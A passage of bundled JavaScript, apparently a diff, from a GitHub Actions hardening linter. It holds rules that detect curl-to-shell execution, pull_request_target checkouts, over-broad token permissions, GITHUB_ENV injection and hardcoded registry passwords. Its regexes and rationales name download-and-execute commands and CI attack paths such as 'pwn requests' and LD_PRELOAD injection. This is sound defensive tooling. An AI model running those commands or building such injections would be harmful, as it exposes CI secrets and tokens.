+  description: 'Reports `run:` scripts that download a script and execute it without saving and verifying it: `curl \u2026 | sh` (also `bash`, `zsh`, `sudo sh`, `python`, `node`, `perl`, `ruby`, `pwsh`, `iex`), `wget -O- \u2026 | bash`, `bash <(curl \u2026)`, `sh -c "$(curl \u2026)"`, `source <(curl \u2026)`, `eval "$(curl \u2026)"`, and PowerShell `iex (iwr \u2026)` / `Invoke-Expression (\u2026DownloadString(\u2026))`. Comments are ignored; backslash-continued lines are read as one command.',
+  rationale: "Whatever the server returns at that moment runs with the job's token and secrets. A compromised download host, a hijacked domain, a CDN incident or a malicious maintainer changes every build at once, and nothing in the repository shows it (the Codecov bash uploader compromise of 2021 exfiltrated CI secrets this way for two months). OpenSSF Scorecard counts these as unpinned dependencies.",
+  fix: 'Download a fixed version, verify its checksum (or signature), then run it:\n\n```yaml\n- run: |\n    curl -fsSLo install.sh https://example.com/install-1.2.3.sh\n    echo "<sha256>  install.sh" | sha256sum --check --strict\n    bash install.sh\n```\n\nBetter still, use a pinned action or a package from a package manager with a lock file.',
+  references: [`${SCORECARD_CHECKS}#pinned-dependencies`, "https://about.codecov.io/security-update/"]
+};
+var DOWNLOADER = /\b(curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b/i;
+var INTERPRETER = /^\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:\/\S*\/)?(?:ba|z|k|da|fi|c|tc)?sh\b|^\s*(?:sudo\s+(?:-\S+\s+)*)?(?:python[0-9.]*|node|perl|ruby|php|pwsh|powershell|iex|Invoke-Expression)\b/i;
+var SUBSTITUTED_DOWNLOAD = /(?:<\(|\$\()\s*(curl|wget)\b/gi;
+var SUBSTITUTION_RUNNER = /(?:^|[\s;&|(])(?:(?:\/\S*\/)?(?:ba|z|k|da)?sh|source|eval|\.)\s/i;
+var POWERSHELL_EVAL = /\b(?:iex|Invoke-Expression)\b/i;
+var POWERSHELL_DOWNLOAD = /\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b/i;
+function pipedDownload(text) {
+  for (const m of text.matchAll(SUBSTITUTED_DOWNLOAD)) {
+    const prefix2 = text.slice(0, m.index);
+    const command = prefix2.slice(
+      Math.max(prefix2.lastIndexOf(";"), prefix2.lastIndexOf("&&"), prefix2.lastIndexOf("||")) + 1
+    );
+    if (SUBSTITUTION_RUNNER.test(` ${command}`)) return { index: m.index + m[0].length - m[1].length, tool: m[1] };
+  }
+  const evaluation = POWERSHELL_EVAL.exec(text);
+  if (evaluation) {
+    const rest = text.slice(evaluation.index);
+    const download = POWERSHELL_DOWNLOAD.exec(rest);
+    if (download) return { index: evaluation.index + download.index, tool: download[1] };
+  }
+  let offset = 0;
+  for (const command of text.split(/(;|&&|\|\|)/)) {
+    if (!/^(;|&&|\|\|)$/.test(command)) {
+      const stages = command.split("|");
+      let stageOffset = offset;
+      let download;
+      for (const stage of stages) {
+        const d = download ? void 0 : DOWNLOADER.exec(stage);
+        if (d) download = { index: stageOffset + d.index, tool: d[1] };
+        else if (download && INTERPRETER.test(stage)) return download;
+        stageOffset += stage.length + 1;
+      }
+    }
+    offset += command.length;
+  }
+  return void 0;
+}
+function run3(workflow) {
+  const findings = [];
+  const keys = new KeyCounter();
+  for (const job of workflow.jobs) {
+    for (const step of job.steps) {
+      if (!step.run) continue;
+      for (const line of logicalLines(step.run.value)) {
+        const hit = pipedDownload(line.text);
+        if (!hit) continue;
+        findings.push(
+          makeFinding(workflow, rule3, {
+            message: `Step ${step.label} of ${job.composite ? "the composite action" : `job ${job.id}`} executes a script downloaded with ${hit.tool} without verifying it.`,
+            span: spanInScalar(workflow, step.run.node, step.run.value, scriptOffset(line, hit.index), hit.tool.length),
+            job,
+            key: keys.next(`${stepKey(job, step)}:${hit.tool}`),
+            fix: "Download to a file, check its sha256 against a pinned value, then run it."
+          })
+        );
+      }
+    }
+  }
+  return findings;
+}
+var curlPipeShell = { rule: rule3, run: run3 };
+
+// src/checks/hardening/github-actions/dangerous-triggers.ts
+var rule4 = {
+  id: "gha/dangerous-triggers",
+  check: "hardening",
+  title: "Workflow uses a privileged trigger",
+  severity: "medium",
+  description: "Reports workflows triggered by `pull_request_target` or `workflow_run` (medium), and at critical severity every job in such a workflow (or one triggered by `issue_comment`) that checks out the pull request's code (`ref: ${{ github.event.pull_request.head.sha }}`, `head.ref`, `github.head_ref`, `refs/pull/<n>/merge`, `github.event.workflow_run.head_sha` / `head_branch`, `gh pr checkout`, `git fetch \u2026 pull/<n>/head`) and then runs anything after it. In `workflow_run` workflows, downloading the triggering run's artifacts (`actions/download-artifact` with `run-id: ${{ github.event.workflow_run.id }}`, `dawidd6/action-download-artifact`) followed by a `run:` step or a local action is reported at high.",
+  rationale: 'Unlike `pull_request`, these triggers run in the context of the base repository: with its secrets, a token that can be read-write, and access to the default branch\'s caches, even when a fork opened the pull request. That is only safe while the workflow never executes code from the pull request. Checking out the head and then running a build, a test, `npm install` (lifecycle scripts) or a local action hands all of that to the author of the pull request: this "pwn request" pattern has compromised many popular projects.',
+  fix: "Use `pull_request` for anything that builds or tests the contribution; it runs without secrets and with a read-only token for forks. When a privileged follow-up is needed (commenting, labelling), split the work: an unprivileged `pull_request` workflow uploads results as an artifact, and a `workflow_run` workflow consumes them as data without checking out or executing the pull request:\n\n```yaml\non: pull_request            # not pull_request_target\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@<sha>\n        with:\n          persist-credentials: false\n      - run: make test\n```\n\nIf `pull_request_target` is unavoidable (labelers, triage), never check out `github.event.pull_request.head.*`.",
+  references: [
+    `${ZIZMOR_AUDITS}#dangerous-triggers`,
+    `${SCORECARD_CHECKS}#dangerous-workflow`,
+    "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
+    GITHUB_HARDENING
+  ]
+};
+var PR_HEAD_PATTERNS = [
+  /github\.event\.pull_request\.head\.(sha|ref)\b/i,
+  /github\.head_ref\b/i,
+  /github\.event\.pull_request\.merge_commit_sha\b/i,
+  /github\.event\.workflow_run\.head_(sha|branch)\b/i,
+  /github\.event\.workflow_run\.pull_requests\[\d+\]\.head\./i,
+  /refs\/pull\//i,
+  /github\.event\.pull_request\.head\.repo\.full_name\b/i
+];
+var GH_PR_CHECKOUT = /\bgh\s+pr\s+checkout\b/;
+var GIT_FETCH = /\bgit\s+(?:fetch|pull|checkout)\b/;
+var PULL_REF = /\bpull\/(?:\$\{\{[^}]{0,200}\}\}|[^\s/]+)\/(?:head|merge)\b/;
+function shellCheckout(text) {
+  const gh = GH_PR_CHECKOUT.exec(text);
+  if (gh) return { index: gh.index, text: gh[0] };
+  const git2 = GIT_FETCH.exec(text);
+  if (git2 && PULL_REF.test(text.slice(git2.index))) return { index: git2.index, text: git2[0] };
+  return void 0;
+}
+function headCheckout(step, workflow) {
+  if (usesAction(step, "actions/checkout")) {
+    for (const input of ["ref", "repository"]) {
+      const value = stringValue(step.with.get(input)?.value, workflow.doc);
+      if (!value) continue;
+      for (const pattern of PR_HEAD_PATTERNS) {
+        const m = pattern.exec(value.value);
+        if (m) {
+          const fence = value.value.lastIndexOf("${{", m.index);
+          const offset = fence >= 0 ? fence : m.index;
+          return { step, value, offset, length: fence >= 0 ? 3 : m[0].length, text: m[0] };
+        }
+      }
+    }
+  }
+  if (step.run) {
+    for (const line of logicalLines(step.run.value)) {
+      const hit = shellCheckout(line.text);
+      if (hit) return { step, value: step.run, offset: scriptOffset(line, hit.index), length: 2, text: hit.text };
+    }
+  }
+  return void 0;
+}
+function executesAfter(job, index) {
+  return job.steps.slice(index + 1).find((s) => s.run !== void 0 || s.uses !== void 0);
+}
+function run4(workflow) {
+  if (workflow.kind !== "workflow") return [];
+  const findings = [];
+  const privileged3 = workflow.triggers.filter((t) => PRIVILEGED_TRIGGERS.includes(t.name));
+  for (const trigger of privileged3) {
+    findings.push(
+      makeFinding(workflow, rule4, {
+        message: trigger.name === "pull_request_target" ? "The workflow runs on `pull_request_target`: with the base repository's secrets and token for pull requests from forks." : "The workflow runs on `workflow_run`: with the repository's secrets and token after workflows that forks can trigger.",
+        span: nodeSpan(workflow, trigger.node),
+        key: `trigger:${trigger.name}`,
+        fix: "Prefer `pull_request`; if this trigger is needed, never check out or run the pull request's code here."
+      })
+    );
+  }
+  const checkoutTriggers = workflow.triggers.filter(
+    (t) => ["pull_request_target", "workflow_run", "issue_comment"].includes(t.name)
+  );
+  if (checkoutTriggers.length === 0) return findings;
+  const names = checkoutTriggers.map((t) => `\`${t.name}\``).join(", ");
+  for (const job of workflow.jobs) {
+    job.steps.forEach((step, index) => {
+      const checkout = headCheckout(step, workflow);
+      if (!checkout) return;
+      const later = executesAfter(job, index);
+      if (!later) return;
+      findings.push(
+        makeFinding(workflow, rule4, {
+          severity: "critical",
+          message: `Job ${job.id} of a ${names} workflow checks out the pull request's code (\`${checkout.text}\`) in step ${step.label} and then runs step ${later.label}: the pull request's author can run code with this workflow's secrets and token.`,
+          span: spanInScalar(workflow, checkout.value.node, checkout.value.value, checkout.offset, checkout.length),
+          job,
+          key: `checkout:${stepKey(job, step)}`,
+          fix: "Move the build/test of the pull request to a `pull_request` workflow; keep this one to trusted base-branch code."
+        })
+      );
+    });
+  }
+  if (workflow.triggers.some((t) => t.name === "workflow_run")) findings.push(...artifactExecution(workflow));
+  return findings;
+}
+var ARTIFACT_DOWNLOADERS = ["actions/download-artifact", "dawidd6/action-download-artifact"];
+function artifactExecution(workflow) {
+  const findings = [];
+  for (const job of workflow.jobs) {
+    job.steps.forEach((step, index) => {
+      if (!step.uses || !usesAction(step, ...ARTIFACT_DOWNLOADERS)) return;
+      const fromRun = [...step.with.values()].some((e) => {
+        const text = stringValue(e.value, workflow.doc)?.value ?? "";
+        return /github\.event\.workflow_run\.(id|run_id|head_sha)\b/i.test(text);
+      });
+      if (!fromRun && !usesAction(step, "dawidd6/action-download-artifact")) return;
+      const later = job.steps.slice(index + 1).find((s) => s.run !== void 0 || (s.uses?.value.startsWith("./") ?? false));
+      if (!later) return;
+      findings.push(
+        makeFinding(workflow, rule4, {
+          severity: "high",
+          message: `Job ${job.id} downloads artifacts of the triggering run in step ${step.label} and then runs step ${later.label}: those artifacts were produced by code the pull request controls.`,
+          span: nodeSpan(workflow, step.uses.node),
+          job,
+          key: `artifact:${stepKey(job, step)}`,
+          fix: "Treat the artifact as untrusted data: extract it outside the workspace, validate its contents, and never execute or source it."
+        })
+      );
+    });
+  }
+  return findings;
+}
+var dangerousTriggers = { rule: rule4, run: run4 };
+
+// src/checks/hardening/github-actions/excessive-permissions.ts
+var import_yaml5 = __toESM(require_dist(), 1);
+var rule5 = {
+  id: "gha/excessive-permissions",
+  check: "hardening",
+  title: "Workflow token has more permissions than needed",
+  severity: "medium",
+  description: "Checks the `GITHUB_TOKEN` permissions of workflows, following OpenSSF Scorecard's Token-Permissions check: read-only at the top, writes granted per job.\n\n- no top-level `permissions:` while some job has none either (medium): the token then gets the repository or organisation default, which is read-write on older repositories;\n- `permissions: write-all` at the top (high) or on a job (medium);\n- a `write` scope at the top level (medium; every job inherits it);\n- a job-level `write` scope on a job that visibly cannot use the token (low). This heuristic is conservative: a job counts as possibly using the token when any step uses an action other than `actions/checkout`, `actions/setup-*`, `actions/cache`, `actions/upload-artifact` and `actions/download-artifact`, or when any script or input mentions `GITHUB_TOKEN`, `github.token`, `gh `, `git push`, `git tag` or `api.github.com`. Reusable workflow calls are not judged.",
+  rationale: "Every step of a job, including third-party actions and the dependencies the build downloads, can read the job's token. A compromised dependency or an injection bug with a write token can push commits, move tags, publish releases or approve pull requests; with a read-only token the same bug is contained.",
+  fix: 'Set the workflow default to read-only (or nothing) and grant writes only to the job that needs them:\n\n```yaml\npermissions:\n  contents: read\n\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@<sha>\n      - run: make test\n  release:\n    needs: test\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write   # creates the GitHub release\n    steps:\n      - run: gh release create "$GITHUB_REF_NAME"\n        env:\n          GH_TOKEN: ${{ github.token }}\n```',
+  references: [
+    `${ZIZMOR_AUDITS}#excessive-permissions`,
+    `${SCORECARD_CHECKS}#token-permissions`,
+    "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions",
+    GITHUB_HARDENING
+  ]
+};
+var TOKEN_FREE_ACTIONS = [
+  "actions/checkout",
+  "actions/cache",
+  "actions/upload-artifact",
+  "actions/download-artifact"
+];
+var TOKEN_USE = /GITHUB_TOKEN|github\.token|\bgh\s|\bgit\s+push\b|\bgit\s+tag\b|api\.github\.com|ACTIONS_ID_TOKEN_REQUEST/i;
+function jobMayUseToken(job, workflow) {
+  for (const step of job.steps) {
+    if (step.uses && !usesAction(step, ...TOKEN_FREE_ACTIONS) && !/^actions\/setup-[a-z0-9-]+(@|$)/i.test(step.uses.value))
+      return true;
+  }
+  let mentions = false;
+  walkScalars(job.node, workflow.doc, (_s, value) => {
+    if (!mentions && TOKEN_USE.test(value)) mentions = true;
+  });
+  return mentions;
+}
+function writeScopes(entry, workflow) {
+  return entries(asMap(entry.value, workflow.doc), workflow.doc).filter(
+    (e) => scalarText(e.value, workflow.doc)?.toLowerCase() === "write"
+  );
+}
+function run5(workflow) {
+  if (workflow.kind !== "workflow") return [];
+  const findings = [];
+  const top = workflow.permissions;
+  if (!top) {
+    const implicit = workflow.jobs.filter((j) => !j.permissions && !j.uses);
+    if (implicit.length > 0) {
+      findings.push(
+        makeFinding(workflow, rule5, {
+          message: `The workflow sets no top-level \`permissions:\`, so job${implicit.length > 1 ? "s" : ""} ${implicit.map((j) => j.id).join(", ")} get the default token permissions, which may be read-write.`,
+          span: nodeSpan(workflow, firstKey(workflow)),
+          key: "top:missing",
+          fix: "Add `permissions: { contents: read }` at the top of the workflow."
+        })
+      );
+    }
+  } else {
+    findings.push(...checkBlock(workflow, top, void 0));
+  }
+  for (const job of workflow.jobs) {
+    if (!job.permissions) continue;
+    findings.push(...checkBlock(workflow, job.permissions, job));
+  }
+  return findings;
+}
+function firstKey(workflow) {
+  const key = workflow.root.items[0]?.key;
+  return (0, import_yaml5.isNode)(key) ? key : void 0;
+}
+function checkBlock(workflow, entry, job) {
+  const where = job ? `Job ${job.id}` : "The workflow";
+  const text = scalarText(entry.value, workflow.doc)?.toLowerCase();
+  if (text === "write-all") {
+    return [
+      makeFinding(workflow, rule5, {
+        severity: job ? "medium" : "high",
+        message: `${where} grants \`permissions: write-all\`: the token can write to every scope, including contents, packages and actions.`,
+        span: nodeSpan(workflow, entry.value),
+        ...job ? { job } : {},
+        key: `${job ? `job:${job.id}` : "top"}:write-all`,
+        fix: "List only the scopes the job needs, e.g. `permissions: { contents: read }`."
+      })
+    ];
+  }
+  const writes = writeScopes(entry, workflow);
+  if (!job) {
+    return writes.map(
+      (scope) => makeFinding(workflow, rule5, {
+        message: `The workflow grants \`${scope.key}: write\` at the top level, so every job's token can write ${scope.key}.`,
+        span: nodeSpan(workflow, scope.value),
+        key: `top:${scope.key}`,
+        fix: `Set the top level to read-only and move \`${scope.key}: write\` to the job that needs it.`
+      })
+    );
+  }
+  if (job.uses || writes.length === 0 || jobMayUseToken(job, workflow)) return [];
+  return writes.map(
+    (scope) => makeFinding(workflow, rule5, {
+      severity: "low",
+      message: `Job ${job.id} grants \`${scope.key}: write\` but none of its steps appears to use the token.`,
+      span: nodeSpan(workflow, scope.value),
+      job,
+      key: `job:${job.id}:${scope.key}`,
+      fix: `Drop \`${scope.key}: write\` from job ${job.id} (or set it to read).`
+    })
+  );
+}
+var excessivePermissions = { rule: rule5, run: run5 };
+
+// src/core/severity.ts
+var SEVERITIES = ["critical", "high", "medium", "low", "info"];
+var RANK = { critical: 4, high: 3, medium: 2, low: 1, info: 0 };
+function severityRank(severity) {
+  return RANK[severity];
+}
+function meetsThreshold(severity, threshold) {
+  return threshold !== "none" && RANK[severity] >= RANK[threshold];
+}
+function compareSeverity(a, b) {
+  return RANK[b] - RANK[a];
+}
+
+// src/checks/hardening/github-actions/contexts.ts
+var FIXED_GITHUB = /* @__PURE__ */ new Set([
+  "action",
+  "action_path",
+  "action_ref",
+  "action_repository",
+  "action_status",
+  "actor",
+  "actor_id",
+  "api_url",
+  "env",
+  "event_name",
+  "event_path",
+  "graphql_url",
+  "job",
+  "output",
+  "path",
+  "repository",
+  "repository_id",
+  "repository_owner",
+  "repository_owner_id",
+  "repositoryurl",
+  "retention_days",
+  "run_attempt",
+  "run_id",
+  "run_number",
+  "secret_source",
+  "server_url",
+  "sha",
+  "state",
+  "step_summary",
+  "token",
+  "triggering_actor",
+  "workflow",
+  "workflow_ref",
+  "workflow_sha",
+  "workspace"
+]);
+var REF_GITHUB = /* @__PURE__ */ new Set(["ref", "ref_name", "base_ref"]);
+var FIXED_LEAVES = /* @__PURE__ */ new Set([
+  "id",
+  "number",
+  "before",
+  "after",
+  "sha",
+  "head_sha",
+  "base_sha",
+  "merge_commit_sha",
+  "tree_id",
+  "author_association",
+  "state",
+  "state_reason",
+  "merge_method",
+  "conclusion",
+  "status",
+  "event",
+  "size",
+  "additions",
+  "deletions",
+  "changed_files",
+  "comments",
+  "review_comments",
+  "forks",
+  "watchers",
+  "stargazers",
+  "open_issues",
+  "run_attempt",
+  "run_number",
+  "workflow_id",
+  "check_suite_id",
+  "repository_id",
+  "discussion_id",
+  "parent_id",
+  "total_count",
+  "fork",
+  "private",
+  "public",
+  "site_admin",
+  "deleted",
+  "locked",
+  "draft",
+  "merged",
+  "mergeable",
+  "rebaseable",
+  "archived",
+  "disabled",
+  "is_template",
+  "maintainer_can_modify",
+  "forced",
+  "created",
+  "distinct",
+  "prerelease",
+  "visibility"
+]);
+var FIXED_LEAF_PATTERNS = [/_at$/, /_count$/, /^has_/, /^allow_/, /^use_/, /^is_/, /_enforcement_level$/];
+function githubContextCapability(parts) {
+  if (parts[0] !== "github") return "fixed";
+  const second = parts[1];
+  if (second === void 0) return "arbitrary";
+  if (second !== "event") {
+    if (second === "head_ref") return "arbitrary";
+    if (REF_GITHUB.has(second)) return "structured";
+    return FIXED_GITHUB.has(second) ? "fixed" : "arbitrary";
+  }
+  const leaf = parts[parts.length - 1];
+  if (parts.length <= 2 || leaf === void 0 || leaf === "*") return "arbitrary";
+  if (parts.includes("reactions") && leaf !== "url") return "fixed";
+  if (parts[parts.length - 2] === "permissions") return "fixed";
+  if (leaf === "id" && parts[parts.length - 2] === "head_commit") return "fixed";
+  if (leaf === "commits" && parts[parts.length - 2] === "pull_request") return "fixed";
+  if (FIXED_LEAVES.has(leaf) || FIXED_LEAF_PATTERNS.some((p) => p.test(leaf))) return "fixed";
+  if (leaf === "url" || leaf === "href" || leaf.endsWith("_url")) return "structured";
+  return "arbitrary";
+}
+function legacyDispatchInput(parts) {
+  return parts[0] === "github" && parts[1] === "event" && parts[2] === "inputs" && parts.length === 4 ? parts[3] : void 0;
+}
+
+// src/checks/hardening/github-actions/matrix.ts
+var MAX_MATRIX_VALUES = 256;
+function matrixValues(job, key, doc2) {
+  const matrix = asMap(job.matrix?.value, doc2);
+  if (!matrix) return void 0;
+  const out = [];
+  const lower = key.toLowerCase();
+  const add = (node) => {
+    const scalar = asScalar(node, doc2);
+    const text = scalar ? scalarText(scalar, doc2) : void 0;
+    if (!scalar || text === void 0 || text.includes("${{") || out.length >= MAX_MATRIX_VALUES) return false;
+    out.push({ value: text, node: scalar });
+    return true;
+  };
+  for (const e of entries(matrix, doc2)) {
+    if (e.key === "include") {
+      const list = asSeq(e.value, doc2);
+      if (!list) return void 0;
+      for (const item of items(list, doc2)) {
+        const included = entries(asMap(item, doc2), doc2).find((x) => x.key.toLowerCase() === lower);
+        if (included && !add(included.value)) return void 0;
+      }
+    } else if (e.key.toLowerCase() === lower) {
+      const list = asSeq(e.value, doc2);
+      if (!list) return void 0;
+      for (const item of items(list, doc2)) if (!add(item)) return void 0;
+    } else if (e.key !== "exclude" && asScalar(e.value, doc2) && scalarText(e.value, doc2)?.includes("${{")) {
+      return void 0;
+    }
+  }
+  return out;
+}
+function matrixIsStatic(job, parts, doc2) {
+  const matrix = job.matrix?.value;
+  if (!matrix) return true;
+  if (!asMap(matrix, doc2)) return false;
+  const key = parts[1];
+  if (key === void 0 || key === "*") {
+    let dynamic2 = false;
+    walkScalars(matrix, doc2, (_s, value) => {
+      if (value.includes("${{")) dynamic2 = true;
+    });
+    return !dynamic2;
+  }
+  let dynamic = false;
+  for (const e of entries(asMap(matrix, doc2), doc2)) {
+    if (e.key === "exclude") continue;
+    const relevant = e.key === "include" || e.key.toLowerCase() === key || asScalar(e.value, doc2) !== void 0;
+    if (!relevant) continue;
+    walkScalars(e.value, doc2, (_s, value) => {
+      if (value.includes("${{") && referencesData(value)) dynamic = true;
+    });
+  }
+  return !dynamic;
+}
+function referencesData(value) {
+  return findExpressions(value).some((f) => {
+    const parsed = parseExpression(f.body);
+    return !parsed.ok || parsed.expr.kind !== "literal";
+  });
+}
+
+// src/checks/hardening/github-actions/taint.ts
+function classifyContext(parts, workflow, job, step, depth = 0) {
+  const context = pathText(parts);
+  const head = parts[0];
+  if (head === "github") {
+    const legacyInput = legacyDispatchInput(parts);
+    if (legacyInput !== void 0) return classifyInput(context, legacyInput, workflow);
+    const capability = githubContextCapability(parts);
+    if (capability === "arbitrary")
+      return { context, severity: "high", why: "can contain any text chosen by whoever triggers the event" };
+    if (capability === "structured")
+      return {
+        context,
+        severity: "medium",
+        why: parts[1] === "event" ? "is an attacker-influenced URL" : "is a branch or tag name, which may contain shell syntax"
+      };
+    return void 0;
+  }
+  if (head === "inputs" && parts.length >= 2) return classifyInput(context, parts[1], workflow);
+  if ((head === "steps" || head === "needs") && parts[2] === "outputs")
+    return { context, severity: "low", why: "is the output of another step or job, which may carry untrusted data" };
+  if (head === "env" && parts.length === 2 && parts[1] !== "*")
+    return classifyEnv(context, parts[1], workflow, job, step, depth);
+  if (head === "matrix" && job && !matrixIsStatic(job, parts, workflow.doc))
+    return { context, severity: "low", why: "comes from a matrix built at run time" };
+  return void 0;
+}
+function classifyEnv(context, name, workflow, job, step, depth) {
+  const doc2 = workflow.doc;
+  const entry = [step?.env, job?.env, workflow.env].map((env) => entries(env, doc2).find((e) => e.key.toLowerCase() === name)).find((e) => e !== void 0);
+  if (!entry)
+    return {
+      context,
+      severity: "low",
+      why: "is not defined in the workflow, so it may be set at run time from untrusted data"
+    };
+  const value = scalarText(entry.value, doc2);
+  if (value === void 0 || depth >= MAX_ENV_DEPTH) return void 0;
+  const inner = taintedExpressions(value, workflow, job, step, depth + 1)[0];
+  return inner ? {
+    context,
+    severity: inner.severity,
+    why: `is set from ${inner.contexts[0].context}, which ${inner.contexts[0].why}`
+  } : void 0;
+}
+var MAX_ENV_DEPTH = 4;
+function classifyInput(context, name, workflow) {
+  if (name === "*") return { context, severity: "medium", why: "includes every input" };
+  const type = workflow.inputs.get(name.toLowerCase());
+  if (type === "boolean" || type === "number" || type === "choice" || type === "environment") return void 0;
+  return {
+    context,
+    severity: "medium",
+    why: workflow.kind === "action" ? "is an action input, free text from the calling workflow" : type === void 0 ? "is an input whose type is not declared here" : "is a string input, free text from whoever dispatches or calls the workflow"
+  };
+}
+function taintedExpressions(text, workflow, job, step, depth = 0) {
+  const out = [];
+  for (const expression of findExpressions(text)) {
+    if (!expression.closed) continue;
+    const parsed = parseExpression(expression.body);
+    if (!parsed.ok) continue;
+    const seen = /* @__PURE__ */ new Set();
+    const contexts = [];
+    for (const parts of flowingContexts(parsed.expr)) {
+      const tainted = classifyContext(parts, workflow, job, step, depth);
+      if (!tainted || seen.has(tainted.context)) continue;
+      seen.add(tainted.context);
+      contexts.push(tainted);
+    }
+    if (contexts.length === 0) continue;
+    contexts.sort((a, b) => severityRank(b.severity) - severityRank(a.severity));
+    out.push({ expression, contexts, severity: contexts[0].severity });
+  }
+  return out;
+}
+function envVarName(context) {
+  return context.split(".").map((p) => p === "*" ? "ANY" : p.replace(/[^A-Za-z0-9]+/g, "_")).join("_").toUpperCase();
+}
+
+// src/checks/hardening/github-actions/github-env.ts
+var rule6 = {
+  id: "gha/github-env",
+  check: "hardening",
+  title: "Untrusted data written to GITHUB_ENV or GITHUB_PATH",
+  severity: "high",
+  description: 'Reports `run:` scripts that write to `$GITHUB_ENV` or `$GITHUB_PATH` (`>> "$GITHUB_ENV"`, `tee -a`, PowerShell `Out-File`/`Add-Content $env:GITHUB_ENV`, `%GITHUB_ENV%`) when the workflow runs on `pull_request_target` or `workflow_run` (whatever is written likely derives from the untrusted pull request or artifact), or when the written line expands an attacker-controlled expression.',
+  rationale: "Lines appended to `GITHUB_ENV` become environment variables of every later step of the job, and `GITHUB_PATH` entries come first in their `PATH`. Whoever controls the written value can set `LD_PRELOAD`, `NODE_OPTIONS=--require \u2026`, `BASH_ENV`, or inject a newline and a variable of their own, and so run code in the following steps with the job's secrets and token.",
+  fix: 'Do not derive environment variables from untrusted input in privileged workflows. Where a value must be passed on, use a step output and an intermediate `env:` variable, and validate it first:\n\n```yaml\n- id: meta\n  env:\n    HEAD_REF: ${{ github.head_ref }}\n  run: |\n    [[ "$HEAD_REF" =~ ^[A-Za-z0-9._/-]+$ ]] || exit 1\n    echo "ref=$HEAD_REF" >> "$GITHUB_OUTPUT"\n- env:\n    REF: ${{ steps.meta.outputs.ref }}\n  run: ./build.sh "$REF"\n```',
+  references: [
+    `${ZIZMOR_AUDITS}#github-env`,
+    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+    GITHUB_SCRIPT_INJECTIONS,
+    GITHUB_HARDENING
+  ]
+};
+var ENV_FILE = String.raw`(?:\$\{?GITHUB_(?:ENV|PATH)\}?|\$env:GITHUB_(?:ENV|PATH)|%GITHUB_(?:ENV|PATH)%)`;
+var WRITES = [
+  new RegExp(String.raw`(?:>>?|\btee\b(?:\s+-[a-z-]+)*)\s*["']?(${ENV_FILE})`, "i"),
+  new RegExp(String.raw`\b(?:Out-File|Add-Content|Set-Content)\b[^\n]*?(${ENV_FILE})`, "i")
+];
+function run6(workflow) {
+  const privileged3 = privilegedTriggers(workflow);
+  const findings = [];
+  const keys = new KeyCounter();
+  for (const job of workflow.jobs) {
+    for (const step of job.steps) {
+      if (!step.run || !/GITHUB_(ENV|PATH)/i.test(step.run.value)) continue;
+      const script = step.run.value;
+      for (const line of logicalLines(script)) {
+        const match2 = WRITES.map((re) => re.exec(line.text)).find((m) => m !== null);
+        if (!match2) continue;
+        const file = /PATH/i.test(match2[1]) ? "GITHUB_PATH" : "GITHUB_ENV";
+        const tainted = taintedExpressions(line.text, workflow, job, step);
+        if (privileged3.length === 0 && tainted.length === 0) continue;
+        const fileIndex = match2.index + match2[0].lastIndexOf(match2[1]) + match2[1].indexOf("GITHUB_");
+        const reason = tainted.length > 0 ? `the written line expands ${tainted.flatMap((t) => t.contexts.map((c) => `\`${c.context}\``)).join(", ")}` : `the workflow runs on ${privileged3.map((t) => `\`${t}\``).join(" and ")}`;
+        findings.push(
+          makeFinding(workflow, rule6, {
+            severity: privileged3.length > 0 || tainted.length === 0 ? "high" : tainted[0].severity,
+            message: `Step ${step.label} of ${job.composite ? "the composite action" : `job ${job.id}`} writes to ${file}, and ${reason}: later steps would run with attacker-chosen environment or PATH.`,
+            span: spanInScalar(workflow, step.run.node, script, scriptOffset(line, fileIndex), file.length),
+            job,
+            key: keys.next(`${stepKey(job, step)}:${file}`),
+            fix: `Do not write untrusted values to ${file}; pass them as step outputs through \`env:\` and validate them.`
+          })
+        );
+      }
+    }
+  }
+  return findings;
+}
+var githubEnv = { rule: rule6, run: run6 };
+
+// src/checks/hardening/github-actions/hardcoded-container-credentials.ts
+var rule7 = {
+  id: "gha/hardcoded-container-credentials",
+  check: "hardening",
+  title: "Registry password written in the workflow",
+  severity: "high",
+  description: "Reports `credentials.password` of a job `container:` or of `services.<id>` that is a literal string instead of an expression such as `${{ secrets.REGISTRY_PASSWORD }}`.",
+  rationale: "The workflow file is readable by everyone who can read the repository (everyone, for a public one) and stays in its git history forever. A registry password in it lets anyone pull private images or, for a token with write scope, push poisoned images that the next deployment picks up.",
+  fix: "Store the password as an encrypted secret, rotate the leaked one, and reference the secret:\n\n```yaml\ncontainer:\n  image: ghcr.io/acme/build:1.4@sha256:<digest>\n  credentials:\n    username: ${{ github.actor }}\n    password: ${{ secrets.GITHUB_TOKEN }}\n```",
+  references: [
+    `${ZIZMOR_AUDITS}#hardcoded-container-credentials`,
+    "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials",
+    GITHUB_HARDENING
+  ]
+};
+function run7(workflow) {
+  const doc2 = workflow.doc;
+  const findings = [];
+  for (const job of workflow.jobs) {
+    const holders = [
+      { where: "container", entry: job.container },
+      ...entries(job.services, doc2).map((s) => ({ where: `service ${s.key}`, entry: s }))
+    ];
+    for (const { where, entry } of holders) {
+      const credentials = asMap(get(asMap(entry?.value, doc2), "credentials", doc2)?.value, doc2);
+      const password = get(credentials, "password", doc2);
+      const text = scalarText(password?.value, doc2);
+      if (!password || text === void 0 || text.trim() === "" || isWholeExpression(text)) continue;
+      findings.push(
+        makeFinding(workflow, rule7, {
+          message: `The ${where} of job ${job.id} has a literal registry password in the workflow file.`,
+          span: nodeSpan(workflow, password.value),
+          job,
+          key: `${job.id}:${where}`,
+          fix: "Move the password to a secret and use `password: ${{ secrets.<NAME> }}`; rotate the exposed one."
+        })
+      );
+    }
+  }
+  return findings;
+}
+var hardcodedContainerCredentials = { rule: rule7, run: run7 };
+
+// src/checks/hardening/github-actions/insecure-commands.ts
+var rule8 = {
+  id: "gha/insecure-commands",
